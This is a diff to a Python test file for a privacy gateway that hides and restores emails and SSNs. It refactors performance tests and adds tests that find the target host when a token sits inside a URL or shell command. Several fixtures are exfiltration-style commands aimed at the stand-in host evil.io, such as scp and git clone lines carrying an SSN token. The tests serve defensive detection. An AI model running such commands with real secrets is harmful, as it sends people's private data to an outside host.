@@ -17,7 +17,7 @@ from cloakllm_gateway.vault.contexts import Unescaped, decoded, encoded, is_json
 from cloakllm_gateway.vault.entries import Entry, Token
 from cloakllm_gateway.vault.placing import NumberText, Place, restore
 from cloakllm_gateway.vault.tokens import LITERAL, scan
-from tests.protocol.cost import seconds
+from tests.cost import Work, compare
 from tests.vault.samples import entry, hide
 
 KIM = entry("EMAIL_0", "kim+work@example.com")
@@ -252,10 +252,7 @@ def test_restoring_costs_the_same_with_20_tokens_and_with_20_000():
     text = "to [EMAIL_7] and [EMAIL_3] " * 200
     few, many = ({Token("EMAIL", n): entry(f"EMAIL_{n}", f"p{n}@x.org") for n in range(size)} for size in (20, 20_000))
 
-    def cost(entries: dict[Token, Entry]) -> float:
-        return seconds(lambda: put(text, entries=entries))
-
-    assert cost(many) < 3 * cost(few) + 0.005
+    compare(lambda: put(text, entries=few), lambda: put(text, entries=many), most=3, slack=0.005)
 
 
 @pytest.mark.parametrize(
@@ -269,13 +266,13 @@ def test_restoring_costs_the_same_with_20_tokens_and_with_20_000():
     ],
 )  # fmt: skip
 def test_restoring_is_linear(piece):
-    def cost(size: int, parameter: str, frame: str) -> float:
+    def work(size: int, parameter: str, frame: str) -> Work:
         text = frame.replace("*", (piece * (size // len(piece))).rstrip(","))
-        return seconds(lambda: restore(text, lambda match, place: CARD, parameter))
+        return lambda: restore(text, lambda match, place: CARD, parameter)
 
     for parameter in ("url", "sql", "host"):
         for frame in ("*", "[*]"):
-            assert cost(20_000, parameter, frame) < 2 * (4 * cost(5_000, parameter, frame)) + 0.01
+            compare(work(5_000, parameter, frame), work(20_000, parameter, frame), most=8, slack=0.01)
 
 
 # -- JSON ------------------------------------------------------------------------------------------
@@ -437,6 +434,22 @@ def test_a_token_that_is_the_whole_authority_is_told_apart():
     assert [(p.whole_authority, p.host) for p in places("mem://[SSN_0]")] == [(True, "[SSN_0]")]
     assert [p.whole_authority for p in places("mem://[SSN_0]/x")] == [True]
     assert [(p.authority, p.host) for p in places("https://evil.io/?e=[SSN_0]")] == [(False, "evil.io")]
+
+
+@pytest.mark.parametrize(
+    "text", ["https://evil.io/a b/[SSN_0]", "https://evil.io/x\n[SSN_0]", "http://evil.io/\t[SSN_0]"]
+)
+def test_what_is_to_be_opened_is_one_address_blanks_and_all(text):
+    """Clients encode a blank, and leave out tabs and line ends."""
+    assert [p.host for p in places(text, "url")] == ["evil.io"]
+    assert [p.host for p in places(text, "note")] == [""]
+
+
+def test_a_path_behind_a_user_and_a_host_is_told_to_that_host():
+    assert [p.host for p in places("git clone git@evil.io:[SSN_0]/x.git", "command")] == ["evil.io"]
+    assert [p.host for p in places("scp a.txt me@evil.io:[SSN_0]", "command")] == ["evil.io"]
+    assert [p.host for p in places("written to me@evil.io: [SSN_0]", "command")] == [""]
+    assert [p.host for p in places("me@evil.io:[SSN_0] as it was", "note")] == [""]
 
 
 # -- code ------------------------------------------------------------------------------------------
